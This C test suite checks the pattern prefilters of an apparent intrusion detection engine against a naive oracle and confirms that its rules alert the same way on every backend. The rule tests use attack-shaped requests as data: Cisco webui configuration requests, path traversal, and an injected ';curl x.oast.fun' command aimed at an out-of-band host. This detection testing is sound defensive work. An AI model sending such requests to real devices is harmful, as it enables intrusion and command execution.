/* Prefilters against an independent oracle: a naive search of every pattern at every offset, over
 * pseudo-random patterns (nocase and binary bytes) and inputs drawn from a small alphabet (so
 * overlaps, shared prefixes and suffix links are exercised), on every backend this build and CPU
 * offer; hand-checked Aho-Corasick cases; and the rule engine giving the same alerts with each
 * backend. A backend that is not available is reported as skipped, never passed. */
#include "helper-rules.h"
#include "prefilter-ac.h"
#include "prefilter.h"
#include "sw-test.h"

#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MAX_HITS 100000

typedef struct hits {
    size_t n;
    uint64_t key[MAX_HITS]; /* pattern id << 32 | end offset */
} hits;

static int record(uint32_t id, size_t end, void *user)
{
    hits *h = user;
    ck_assert_uint_lt(h->n, MAX_HITS);
    h->key[h->n++] = ((uint64_t)id << 32) | end;
    return 0;
}

static int cmp_u64(const void *a, const void *b)
{
    uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;
    return x < y ? -1 : x > y;
}

static uint32_t rng_state;
static uint32_t rng(void)
{
    rng_state = rng_state * 1103515245u + 12345u; /* fixed LCG: deterministic runs */
    return rng_state >> 8;
}

static int byte_eq(uint8_t a, uint8_t b, int fold)
{
    return fold ? tolower(a) == tolower(b) : a == b;
}

static void naive(uint8_t pats[][8], const size_t *plen, const int *fold, size_t np,
                  const uint8_t *text, size_t len, hits *h)
{
    for (size_t p = 0; p < np; p++)
        for (size_t end = plen[p]; end <= len; end++) {
            size_t j = 0;
            while (j < plen[p] && byte_eq(text[end - plen[p] + j], pats[p][j], fold[p]))
                j++;
            if (j == plen[p])
                record((uint32_t)p, end, h);
        }
}

static hits got, want;

START_TEST(test_random_against_naive)
{
    static const char alphabet[] = "abAB\x00\xff";
    rng_state = 1234u + (uint32_t)_i;
    uint8_t pats[40][8];
    size_t plen[40], np = 1 + rng() % 40;
    int fold[40];
    sw_ac *ac = sw_ac_new();
    for (size_t p = 0; p < np; p++) {
        plen[p] = 1 + rng() % 6;
        fold[p] = 1; /* Aho-Corasick folds case for every pattern */
        for (size_t j = 0; j < plen[p]; j++)
            pats[p][j] = (uint8_t)alphabet[rng() % 6];
        ck_assert_int_eq(sw_ac_add(ac, pats[p], plen[p], (uint32_t)p), SW_OK);
    }
    ck_assert_int_eq(sw_ac_compile(ac), SW_OK);
    size_t len = rng() % 300;
    uint8_t *text = malloc(len ? len : 1);
    for (size_t i = 0; i < len; i++)
        text[i] = (uint8_t)alphabet[rng() % 6];
    got.n = want.n = 0;
    size_t n = sw_ac_scan(ac, text, len, record, &got);
    naive(pats, plen, fold, np, text, len, &want);
    ck_assert_uint_eq(n, got.n);
    ck_assert_uint_eq(got.n, want.n);
    qsort(got.key, got.n, sizeof(uint64_t), cmp_u64);
    qsort(want.key, want.n, sizeof(uint64_t), cmp_u64);
    ck_assert_int_eq(memcmp(got.key, want.key, got.n * sizeof(uint64_t)), 0);
    free(text);
    sw_ac_free(ac);
}
END_TEST

static int on_id(uint32_t id, void *user)
{
    ck_assert_uint_lt(id, 40);
    ((uint8_t *)user)[id] = 1;
    return 0;
}

/* Through prefilter.h: the set of pattern ids reported must equal the oracle's set. Aho-Corasick
 * folds case for every pattern, Hyperscan only for SW_PF_NOCASE ones. */
static void backend_against_naive(sw_prefilter_backend backend, int iteration)
{
    static const char alphabet[] = "abAB\x00\xff\\.";
    rng_state = 777u + (uint32_t)iteration;
    uint8_t pats[40][8];
    size_t plen[40], np = 1 + rng() % 40;
    int fold[40];
    sw_prefilter *pf = sw_prefilter_new(backend);
    ck_assert_ptr_nonnull(pf);
    ck_assert_int_eq(sw_prefilter_backend_of(pf), backend);
    for (size_t p = 0; p < np; p++) {
        plen[p] = 1 + rng() % 6;
        unsigned flags = rng() % 2 ? SW_PF_NOCASE : 0;
        fold[p] = backend == SW_PF_AHO_CORASICK || flags;
        for (size_t j = 0; j < plen[p]; j++)
            pats[p][j] = (uint8_t)alphabet[rng() % 8];
        ck_assert_int_eq(sw_prefilter_add(pf, pats[p], plen[p], flags, (uint32_t)p), SW_OK);
    }
    ck_assert_int_eq(sw_prefilter_compile(pf), SW_OK);
    sw_prefilter_scratch *scratch = NULL;
    ck_assert_int_eq(sw_prefilter_scratch_reserve(pf, &scratch), SW_OK);
    size_t len = rng() % 300;
    uint8_t *text = malloc(len ? len : 1);
    for (size_t i = 0; i < len; i++)
        text[i] = (uint8_t)alphabet[rng() % 8];
    uint8_t seen[40] = {0}, expect[40] = {0};
    want.n = 0;
    naive(pats, plen, fold, np, text, len, &want);
    for (size_t i = 0; i < want.n; i++)
        expect[want.key[i] >> 32] = 1;
    sw_prefilter_scan(pf, scratch, text, len, on_id, seen);
    ck_assert_int_eq(memcmp(seen, expect, sizeof(seen)), 0);
    free(text);
    sw_prefilter_scratch_free(scratch);
    sw_prefilter_free(pf);
}

START_TEST(test_ac_backend_against_naive)
{
    backend_against_naive(SW_PF_AHO_CORASICK, _i);
}
END_TEST

START_TEST(test_hs_backend_against_naive)
{
    backend_against_naive(SW_PF_HYPERSCAN, _i);
}
END_TEST

/* The textbook example (Aho-Corasick 1975, figure 1): he, she, his, hers in "ushers". */
START_TEST(test_ushers)
{
    sw_ac *ac = sw_ac_new();
    const char *p[] = {"he", "she", "his", "hers"};
    for (uint32_t i = 0; i < 4; i++)
        ck_assert_int_eq(sw_ac_add(ac, (const uint8_t *)p[i], strlen(p[i]), i), SW_OK);
    ck_assert_int_eq(sw_ac_compile(ac), SW_OK);
    got.n = 0;
    ck_assert_uint_eq(sw_ac_scan(ac, (const uint8_t *)"USHERS", 6, record, &got), 3);
    qsort(got.key, got.n, sizeof(uint64_t), cmp_u64);
    /* he ends at 4, she at 4, hers at 6 */
    ck_assert_uint_eq(got.key[0], ((uint64_t)0 << 32) | 4);
    ck_assert_uint_eq(got.key[1], ((uint64_t)1 << 32) | 4);
    ck_assert_uint_eq(got.key[2], ((uint64_t)3 << 32) | 6);
    sw_ac_free(ac);
}
END_TEST

START_TEST(test_bad_calls)
{
    sw_ac *ac = sw_ac_new();
    uint8_t big[SW_AC_MAX_PATTERN + 1] = {0};
    ck_assert_int_eq(sw_ac_add(ac, big, 0, 1), SW_ERR_INVALID);
    ck_assert_int_eq(sw_ac_add(ac, big, sizeof(big), 1), SW_ERR_INVALID);
    ck_assert_uint_eq(sw_ac_scan(ac, big, 4, record, &got), 0); /* not compiled */
    ck_assert_int_eq(sw_ac_compile(ac), SW_OK);
    ck_assert_int_eq(sw_ac_add(ac, big, 1, 1), SW_ERR_INVALID); /* after compile */
    ck_assert_uint_eq(sw_ac_scan(ac, big, 4, record, &got), 0); /* no patterns */
    sw_ac_free(ac);
    sw_ac_free(NULL);
    sw_prefilter_backend b;
    ck_assert_int_eq(sw_prefilter_backend_parse("aho-corasick", &b), SW_OK);
    ck_assert_int_eq(b, SW_PF_AHO_CORASICK);
    ck_assert_int_eq(sw_prefilter_backend_parse("hyperscan", &b), SW_OK);
    ck_assert_int_eq(b, SW_PF_HYPERSCAN);
    ck_assert_int_eq(sw_prefilter_backend_parse("fast", &b), SW_ERR_INVALID);
}
END_TEST

/* The rule engine: one scenario per backend, alerts recorded in order. Expected counts are read
 * off the rules by hand; the full alert lists must be identical across backends. */
typedef struct alert_log {
    size_t n;
    char rule[RT_MAX_ALERTS][48];
} alert_log;

static rt_fixture fx;

static void hand_made_scenario(alert_log *out)
{
    rt_setup(&fx,
             "alert http any any -> any any (http.uri; content:\"/ADMIN\"; nocase; sid:1;)\n"
             "alert http any any -> any any (http.uri; content:\"/admin\"; sid:2;)\n"
             "alert tcp any any -> any any (content:\"|00 00 00 01 ff|\"; sid:3;)\n"
             "alert dns any any -> any any (dns.query; content:\"c2.\"; nocase; sid:4;)\n"
             "alert http any any -> any any (http.method; content:\"GET\"; sid:5;)\n",
             1);
    static const uint8_t bin[] = {0x41, 0x00, 0x00, 0x00, 0x01, 0xff, 0x42};
    static const uint8_t near[] = {0x00, 0x00, 0x00, 0x01, 0xfe};
    rt_request(&fx, "GET", "/Admin/x", NULL, "", "", ""); /* sid 1 (nocase), sid 5 */
    rt_request(&fx, "POST", "/admin", NULL, "", "", "");  /* sid 1, sid 2 */
    rt_payload(&fx, 1, bin, sizeof(bin));                 /* sid 3 */
    rt_payload(&fx, 1, near, sizeof(near));               /* nothing: last byte differs */
    rt_dns(&fx, "x.C2.example");                          /* sid 4 */
    ck_assert_uint_eq(rt_count(&fx, "1:1:1"), 2);
    ck_assert_uint_eq(rt_count(&fx, "1:2:1"), 1);
    ck_assert_uint_eq(rt_count(&fx, "1:3:1"), 1);
    ck_assert_uint_eq(rt_count(&fx, "1:4:1"), 1);
    ck_assert_uint_eq(rt_count(&fx, "1:5:1"), 1);
    out->n = fx.n;
    memcpy(out->rule, fx.rule, sizeof(out->rule));
    rt_teardown(&fx);
}

static void seawall_rules_scenario(alert_log *out)
{
    rt_setup_file(&fx, sw_test_source("signatures/seawall.rules"));
    rt_request(&fx, "POST", "/%2577ebui_wsma_Http", "/%77ebui_wsma_Http",
               "Host: 10.0.0.1\r\nUser-Agent: Mozilla/5.0\r\n", "",
               "<SOAP:Envelope><request xmlns=\"urn:cisco:wsma-config\"><configApply>"
               "</configApply></request></SOAP:Envelope>");
    rt_request(&fx, "GET", "/webui/", NULL, "", "lang=en; Auth=cisco_support", "");
    rt_request(&fx, "POST", "/webui/logoutconfirm.html?logon_hash=1", NULL, "", "", "");
    rt_flow(&fx, RT_CLIENT, 40000, RT_EDGE, 443);
    rt_request(&fx, "GET", "/api/v1/totp/user-backup-code/../../system/system-information", NULL,
               "User-Agent: curl/7.88.1\r\n", "", "");
    rt_request(&fx, "GET",
               "/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20x.oast.fun", NULL,
               "", "", "");
    rt_request(&fx, "GET", "/api/v1/system/system-information", NULL, "", "DSID=abc", "");
    rt_request(&fx, "POST", "/ssl-vpn/hipreport.esp", NULL, "Host: 127.0.0.1\r\n",
               "SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/x.txt", "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100101:1"), 1);
    ck_assert_uint_eq(rt_count(&fx, "1:9100108:1"), 2); /* both ../../ requests */
    ck_assert_uint_ge(fx.n, 4);
    out->n = fx.n;
    memcpy(out->rule, fx.rule, sizeof(out->rule));
    rt_teardown(&fx);
}

static void same_alerts_on_every_backend(void (*scenario)(alert_log *))
{
    alert_log ac, hs;
    setenv("SEAWALL_PREFILTER", "aho-corasick", 1);
    scenario(&ac);
    if (!sw_prefilter_available(SW_PF_HYPERSCAN)) {
        unsetenv("SEAWALL_PREFILTER");
        return; /* reported as skipped in main() */
    }
    setenv("SEAWALL_PREFILTER", "hyperscan", 1);
    scenario(&hs);
    unsetenv("SEAWALL_PREFILTER");
    ck_assert_uint_eq(ac.n, hs.n);
    for (size_t i = 0; i < ac.n && i < RT_MAX_ALERTS; i++)
        ck_assert_str_eq(ac.rule[i], hs.rule[i]);
}

START_TEST(test_engine_hand_made_same_alerts)
{
    same_alerts_on_every_backend(hand_made_scenario);
}
END_TEST

START_TEST(test_engine_seawall_rules_same_alerts)
{
    same_alerts_on_every_backend(seawall_rules_scenario);
}
END_TEST

static Suite *prefilter_suite(int have_hs)
{
    Suite *s = suite_create("prefilter");
    TCase *tc = tcase_create("aho-corasick");
    tcase_add_loop_test(tc, test_random_against_naive, 0, 300);
    tcase_add_loop_test(tc, test_ac_backend_against_naive, 0, 300);
    tcase_add_test(tc, test_ushers);
    tcase_add_test(tc, test_bad_calls);
    suite_add_tcase(s, tc);
    if (have_hs) {
        TCase *hs = tcase_create("hyperscan");
        tcase_add_loop_test(hs, test_hs_backend_against_naive, 0, 300);
        suite_add_tcase(s, hs);
    }
    TCase *eng = tcase_create("engine");
    tcase_set_timeout(eng, 60);
    tcase_add_test(eng, test_engine_hand_made_same_alerts);
    tcase_add_test(eng, test_engine_seawall_rules_same_alerts);
    suite_add_tcase(s, eng);
    return s;
}

int main(void)
{
    int have_hs = sw_prefilter_available(SW_PF_HYPERSCAN);
    printf("prefilter backends: aho-corasick tested; hyperscan %s\n",
           have_hs ? "tested" : "SKIPPED (not built in or CPU unsupported)");
    return sw_test_run(prefilter_suite(have_hs));
}
